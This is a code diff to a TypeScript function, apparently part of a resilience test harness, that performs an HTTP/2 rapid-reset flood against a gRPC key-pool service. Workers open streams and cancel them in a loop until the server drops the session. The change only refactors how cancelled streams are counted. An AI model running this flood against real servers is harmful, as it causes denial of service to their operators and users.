@@ -86,8 +86,7 @@ export async function rapidResetFlood(address: string, until: number): Promise<C
   const headers = {
     ":method": "POST", ":path": "/keypool.v1.KeyService/GetPoolStats", "content-type": "application/grpc", te: "trailers",
   };
-  const resetUntilClosed = async (session: http2.ClientHttp2Session): Promise<number> => {
-    let reset = 0;
+  const resetUntilClosed = async (session: http2.ClientHttp2Session): Promise<void> => {
     const ended = closed(session);
     let done = false;
     void ended.then(() => (done = true));
@@ -97,7 +96,7 @@ export async function rapidResetFlood(address: string, until: number): Promise<C
           const stream = session.request(headers);
           stream.on("error", () => {});
           stream.close(http2.constants.NGHTTP2_CANCEL);
-          reset++;
+          counts.streamsOpenedAndCancelled!++;
         } catch (err) {
           // A session that got GOAWAY or was destroyed refuses new streams: it is finished.
           count(counts, `request refused ${codeOf(err)}`);
@@ -109,7 +108,6 @@ export async function rapidResetFlood(address: string, until: number): Promise<C
     }
     session.destroy();
     await ended;
-    return reset;
   };
   const worker = async (w: number): Promise<void> => {
     while (Date.now() < until) {
@@ -117,7 +115,7 @@ export async function rapidResetFlood(address: string, until: number): Promise<C
       const session = connectFrom(address, sourceAddress(w), counts);
       session.once("remoteSettings", () => counts.sessionsTheServerTook!++);
       // Streams of a refused session are counted too: they were queued before it closed.
-      counts.streamsOpenedAndCancelled! += await resetUntilClosed(session);
+      await resetUntilClosed(session);
       await sleep(10);
     }
   };
